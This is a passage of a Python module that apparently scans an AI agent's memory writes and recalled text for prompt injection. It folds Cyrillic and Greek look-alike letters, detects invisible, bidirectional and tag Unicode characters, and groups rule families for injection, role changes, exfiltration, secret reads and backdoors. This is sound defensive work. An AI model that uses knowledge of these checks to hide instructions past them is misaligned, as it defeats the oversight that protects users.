    "х": "x", "ѕ": "s", "ԁ": "d", "ԛ": "q", "ԝ": "w", "ӏ": "l", "ɡ": "g", "һ": "h",
    # Cyrillic upper case
    "А": "A", "В": "B", "Е": "E", "Ё": "E", "З": "3", "І": "I", "Ї": "I", "Ј": "J",
    "К": "K", "М": "M", "Н": "H", "О": "O", "Р": "P", "С": "C", "Т": "T", "У": "Y",
    "Х": "X", "Ѕ": "S", "Ԁ": "D", "Ԛ": "Q", "Ԝ": "W", "Ӏ": "I", "Һ": "H",
    # Greek lower case
    "α": "a", "β": "b", "ε": "e", "ι": "i", "κ": "k", "ν": "v", "ο": "o", "ρ": "p",
    "τ": "t", "υ": "u", "χ": "x", "γ": "y", "ϲ": "c", "ϳ": "j",
    # Greek upper case
    "Α": "A", "Β": "B", "Ε": "E", "Ζ": "Z", "Η": "H", "Ι": "I", "Κ": "K", "Μ": "M",
    "Ν": "N", "Ο": "O", "Ρ": "P", "Τ": "T", "Υ": "Y", "Χ": "X", "Ϲ": "C",
}  # fmt: skip
_FOLD_TABLE = {ord(k): v for k, v in CONFUSABLES.items()} | _STRIP_TABLE

# Families a scope runs: "strict" for memory writes, "context" for recalled
# text shown to the model as data (secrets and shell commands are fine there).
_SCOPE_RULES = {
    "strict": INJECTION_RULES
    + SYSTEM_PROMPT_RULES
    + ROLE_RULES
    + HIDDEN_RULES
    + EXFIL_RULES
    + SECRET_READ_RULES
    + BACKDOOR_RULES
    + CONFIG_RULES
    + SECRET_RULES,
    "context": INJECTION_RULES + SYSTEM_PROMPT_RULES + ROLE_RULES + HIDDEN_RULES,
}
ALL_RULES = _SCOPE_RULES["strict"]
UNICODE_PATTERN_IDS = {
    "unicode.invisible": "invisible characters (zero-width, word joiner, BOM)",
    "unicode.bidi": "bidirectional override characters",
    "unicode.tag_chars": "Unicode tag characters (hidden ASCII)",
}
_DESCRIPTIONS = {p.id: p.description for p in ALL_RULES} | UNICODE_PATTERN_IDS


def scan_for_threats(text: str, *, scope: str = "strict") -> list[str]:
    """Return the ids of the threat patterns ``text`` matches, ``[]`` when clean.

    Args:
        text: The text to check (an entry, a whole file, a tool result).
        scope: ``"strict"`` (every family; memory writes) or ``"context"``
            (prompt-injection families only; recalled reference text).

    Raises:
        ValueError: unknown scope.
    """
    if scope not in _SCOPE_RULES:
        raise ValueError(f"scope must be one of {', '.join(SCOPES)}, got {scope!r}")
    normal = unicodedata.normalize("NFKC", text)
    found = _unicode_findings(normal)
    plain = _fold(normal)
    lower = plain.lower()
    for rule in _SCOPE_RULES[scope]:
        if any(k in lower for k in rule.keywords) and rule.regex.search(plain):
            found.append(rule.id)
    return found


def normalise(text: str) -> str:
    """The text the rules run on: NFKC, invisible characters removed, look-alikes folded."""
    return _fold(unicodedata.normalize("NFKC", text))


def _fold(normal: str) -> str:
    return normal if normal.isascii() else normal.translate(_FOLD_TABLE)


def describe(pattern_id: str) -> str:
    """A short human description of a pattern id."""
    return _DESCRIPTIONS.get(pattern_id, pattern_id)


def threat_message(pattern_ids: list[str]) -> str:
    """``id (description), ...`` for error messages."""
    return ", ".join(f"{pid} ({describe(pid)})" for pid in pattern_ids)


def _unicode_findings(text: str) -> list[str]:
    if text.isascii():
        return []
    found = []
    if any(c in INVISIBLE_CHARS and not _is_emoji_joiner(text, i, c) for i, c in enumerate(text)):
        found.append("unicode.invisible")
    if any(c in BIDI_CHARS for c in text):
        found.append("unicode.bidi")
    if any(_TAG_RANGE[0] <= ord(c) <= _TAG_RANGE[1] for c in text):
        found.append("unicode.tag_chars")
    return found


def _is_emoji_joiner(text: str, i: int, char: str) -> bool:
    """A zero-width joiner between two pictographs (👩‍💻) is ordinary emoji, not hiding."""
    if char != _ZWJ or i == 0 or i + 1 >= len(text):
        return False
    return _is_pictograph(text[i - 1]) and _is_pictograph(text[i + 1])


def _is_pictograph(char: str) -> bool:
    code = ord(char)
    return 0x1F000 <= code <= 0x1FAFF or 0x2600 <= code <= 0x27BF or code == 0xFE0F
